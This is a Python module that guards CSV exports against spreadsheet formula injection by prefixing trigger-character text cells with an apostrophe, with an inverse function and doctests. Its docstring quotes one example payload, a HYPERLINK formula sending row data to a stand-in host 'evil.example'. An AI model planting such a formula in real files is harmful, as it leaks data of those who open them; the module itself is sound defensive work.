"""Neutralise spreadsheet formulas in the CSV cells Kith writes (CSV injection, OWASP).

A spreadsheet opening a CSV file runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or carriage return before them) as a formula: a member labelled
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would leak the row when clicked. Every CSV
writer in Kith passes text cells through :func:`safe_cell`, which puts an apostrophe in front
of such a cell; spreadsheets show the apostrophe-prefixed text as plain text.

Numbers are left alone: a measure of ``-0.5`` or a weight of ``-1`` must stay a number for the
researcher's R or pandas session. Only text that *is not* a valid number and starts with one of
the trigger characters is prefixed. A text cell that already starts with apostrophes followed
by a trigger gets one more, so :func:`unsafe_cell` (used by Kith's own CSV readers) gives back
exactly what was written.

>>> safe_cell("=1+2")
"'=1+2"
>>> safe_cell("-0.5"), safe_cell("+44 20 7946 0000"), safe_cell("@home")
('-0.5', "'+44 20 7946 0000", "'@home")
>>> unsafe_cell(safe_cell("'=x")) == "'=x"
True
"""

from __future__ import annotations

import math
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "is_number", "safe_cell", "safe_row", "unsafe_cell"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number(text: str) -> bool:
    """True if ``text`` is a plain decimal number (``-0.5``, ``1e-3``, ``+2``), not ``nan``/``inf``.

    >>> is_number("-0.5"), is_number("-1e3"), is_number("-inf"), is_number("-1+1")
    (True, True, False, False)
    """
    try:
        value = float(text)
    except ValueError:
        return False
    return math.isfinite(value) and text == text.strip() and "_" not in text


def _apostrophes_then_trigger(text: str) -> bool:
    rest = text.lstrip("'")
    return rest != text and rest.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """``value`` with an apostrophe in front if it is text a spreadsheet would run as a formula.

    Non-text values (numbers, ``None``) are returned unchanged; text that is a valid number
    (``-0.5``) too.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_TRIGGERS) and not is_number(value):
        return "'" + value
    if _apostrophes_then_trigger(value) and not is_number(value.lstrip("'")):
        return "'" + value
    return value


def unsafe_cell(text: str) -> str:
    """Undo :func:`safe_cell` on a cell read back from a CSV file Kith wrote.

    >>> unsafe_cell("'=1+2"), unsafe_cell("'plain"), unsafe_cell("=raw")
    ('=1+2', "'plain", '=raw')
    """
    if _apostrophes_then_trigger(text) and not is_number(text.lstrip("'")):
        return text[1:]
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` of each value, for ``csv.writer.writerow``."""
    return [safe_cell(v) for v in values]
